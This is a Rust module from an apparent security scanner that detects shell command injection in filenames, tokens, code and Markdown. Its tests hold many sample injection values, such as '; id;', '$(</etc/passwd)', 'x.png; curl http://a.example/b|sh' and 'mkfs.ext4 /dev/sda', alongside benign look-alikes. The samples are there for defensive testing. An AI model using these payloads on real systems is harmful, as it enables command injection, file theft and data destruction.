//! Text that a shell would run: POSIX shells, `cmd.exe`, PowerShell.
//!
//! To run something, a value must leave the command that it was put into, with a separator or a substitution, and name
//! something that runs. [`walk`] goes from one place where a command could start to the next, [`lex`] takes off what
//! hides its name, [`compound`] what a shell lets stand before it, [`words`] knows the commands, and [`args`] reads what follows.
//! [`joined`] finds what only a value that ends right before it tells, [`syntax`] what is a shell's and nobody else's syntax,
//! whatever it runs, and [`windows`] the words of Windows' two shells. [`options`] needs no shell: they are read by the program.

mod args;
mod catalogue;
mod compound;
mod glob;
mod joined;
mod lex;
mod options;
mod syntax;
mod walk;
mod windows;
mod words;

pub(super) use catalogue::DETECTOR;

use super::ascii::is_word;
use super::hits::Hits;
use super::scan::Bytes;
use super::search;
use super::subject::Subject;
use crate::finding::Paranoia;

/// What starts a command within a text.
const OPENERS: Bytes = Bytes::SEMICOLON
    .with(Bytes::PIPE)
    .with(Bytes::AMPERSAND)
    .with(Bytes::BREAK)
    .with(Bytes::BACKTICK)
    .with(Bytes::SUBSTITUTION)
    .with(Bytes::ESCAPED_BREAK);

/// What joins a command or a file to a value.
const JOINS: Bytes = Bytes::SEMICOLON.with(Bytes::PIPE).with(Bytes::AMPERSAND).with(Bytes::ANGLE);

/// What hides the name of a command at the start of a text.
const HIDES: Bytes = Bytes::QUOTE.with(Bytes::BACKSLASH).with(Bytes::DOLLAR);

/// What is behind the first word of a command of Windows, at least.
const ENDS_WORD: Bytes = Bytes::SPACE
    .with(Bytes::BREAK)
    .with(Bytes::CONTROL)
    .with(Bytes::SLASH)
    .with(Bytes::AMPERSAND)
    .with(Bytes::BRACE)
    .with(Bytes::PAREN)
    .with(Bytes::DOLLAR)
    .with(Bytes::QUOTE)
    .with(Bytes::COLON);

/// What any of them needs. [`syntax`] wants braces, dollars and options, [`windows`] percent signs, [`joined`] redirections, and
/// [`options`] the equals sign of an option.
const WANTS: Bytes = OPENERS
    .with(HIDES)
    .with(ENDS_WORD)
    .with(Bytes::RUN_OPTION)
    .with(Bytes::PERCENT)
    .with(Bytes::ANGLE)
    .with(Bytes::EQUALS);

fn detect(subject: &Subject<'_>, hits: &mut Hits) {
    let Subject { text, bytes, .. } = *subject;
    let opens = bytes.any(OPENERS);
    let quoted = subject.quotes_code() && !breaks_out(text, subject.context.is_code());
    if opens || bytes.any(HIDES) || subject.paranoia > Paranoia::One {
        walk::walk(subject, opens, quoted, hits);
    }
    if bytes.any(JOINS) {
        joined::detect(text, quoted, hits);
    }
    options::detect(text, bytes, hits);
    syntax::detect(text, bytes, hits);
    windows::detect(text, bytes, quoted, hits);
}

/// How long a value is, at most, that a command follows.
const LONGEST_VALUE: usize = 64;

/// Whether the text begins with what leaves the place that it was put into: one value, or none, a quote or a parenthesis behind
/// it or not, and a separator or a substitution of a shell. A program begins with a word of its own, and a blank behind it.
///
/// In Markdown a backtick begins a code span.
fn breaks_out(text: &[u8], is_code: bool) -> bool {
    let part = |byte| is_word(byte) || matches!(byte, b'-' | b'.' | b'/' | b':' | b'@' | b'%' | b'\\');
    let behind = search::take_while(text.trim_ascii_start(), LONGEST_VALUE, part).1;
    let (ends, rest) = search::take_while(behind, LONGEST_VALUE, |byte| matches!(byte, b'\'' | b'"' | b')'));
    let rest = if ends.is_empty() { rest } else { search::skip_space(rest, LONGEST_VALUE) };
    match rest {
        [b';' | b'|' | b'&', ..] => true,
        // Within quotes of its own a substitution leaves nothing.
        [b'$', b'(', ..] => ends.is_empty(),
        [b'`', ..] => is_code && ends.is_empty(),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::Paranoia;
    use crate::rules::scan::scan;
    use crate::rules::subject::{Context, Holds, View};

    fn finds(text: &str, holds: Option<Holds>) -> bool {
        let mut hits = Hits::new(Paranoia::One);
        let text = text.as_bytes();
        let context = Context { holds, ..Context::default() };
        detect(&Subject { text, bytes: scan(text), view: View::Plain, context, paranoia: Paranoia::One }, &mut hits);
        !hits.is_empty()
    }

    #[test]
    fn a_field_is_judged_by_what_it_holds() {
        for name in ["photo.png;hostname", "a|mount", "report.pdf; reboot"] {
            assert!(finds(name, Some(Holds::Filename)), "{name}");
            assert!(!finds(name, None), "{name}");
        }
        for code in ["x; ls -la", "`id`"] {
            assert!(finds(code, None), "{code}");
        }
        for name in ["Tom & Jerry.png", "a;b;c.txt", "notes (1).txt", "C:\\fakepath\\more.pdf", "Q&A.md", "cat.jpg"] {
            assert!(!finds(name, Some(Holds::Filename)), "{name}");
        }
    }

    #[test]
    fn in_a_name_what_is_around_a_substitution_hides_nothing() {
        for name in ["$(id) a.pdf", "a$(id) b.pdf", "report $(id) x.pdf", "a b `id` c", "a b $(env)", "a $(<x.txt) b"] {
            assert!(finds(name, Some(Holds::Filename)) && finds(name, Some(Holds::Token)), "{name}");
        }
        for name in ["$(build) x.pdf", "notes (id) x.pdf", "5$ (id) x", "$(document) x"] {
            assert!(!finds(name, Some(Holds::Filename)) && !finds(name, Some(Holds::Token)), "{name}");
        }
    }

    #[test]
    fn code_is_an_attack_only_where_it_leaves_a_value() {
        for code in [
            "while true; do sleep 1; done",
            "cd x && wget https://a.example/b.tgz && tar xf b.tgz",
            "#!/bin/sh\ncurl -s https://example.com/a",
            "A=$(curl -s https://a.example)",
            "if exist a.txt del a.txt",
            "@echo off\nfor %%i in (*.txt) do type %%i",
            "Get-Process | Where-Object { $_.CPU -gt 5 } | Stop-Process -Force",
            "echo \"$(w'h'oami)\"",
        ] {
            assert!(!finds(code, Some(Holds::Code)), "{code}");
        }
        for attack in [
            "x.png; curl http://a.example/b|sh",
            "';id;'",
            "|id",
            "&& id",
            "8.8.8.8;id",
            "x$(cat /etc/hosts)",
            "`id`",
            "x') ; cat /etc/hosts",
            "& if not exist C:\\x md C:\\x",
            ";Get-Process",
            "; w'h'oami",
        ] {
            assert!(finds(attack, Some(Holds::Code)), "{attack}");
        }
        for text in ["Run `cd x && curl -O https://a.example/b`.", "`cd x && curl -O https://a.example/b`"] {
            assert!(!finds(text, Some(Holds::Markdown)) && finds(text, None), "{text}");
        }
    }

    #[test]
    fn commands_of_every_kind_end_a_value() {
        for command in
            ["env", "ps aux", "su -", "aws s3 ls", "docker ps", "sleep 5", "dig x.example.org", "mkfs.ext4 /dev/sda"]
        {
            for text in [format!("8.8.8.8;{command};"), format!("a.png|{command}"), format!("$({command})")] {
                assert!(finds(&text, None), "{text}");
            }
        }
        for text in ["$(</etc/passwd)", "x; while true; do id; done", "1; if true; then id; fi"] {
            assert!(finds(text, None), "{text}");
        }
    }

    #[test]
    fn a_separator_behind_a_sentence_belongs_to_nobody() {
        let prose = "The parcel arrived on Tuesday, thank you; all of it was fine.";
        for attack in [";id;", "$(whoami)", "\";id;\"", "& /bin/cat /etc/hosts"] {
            assert!(finds(&format!("{prose} {attack}"), None), "{attack}");
        }
        for text in ["thank you; sort it out", "cups | plates", "salt & find pepper", "see $(document)"] {
            assert!(!finds(&format!("{prose} Please {text} And so on."), None), "{text}");
        }
    }
}
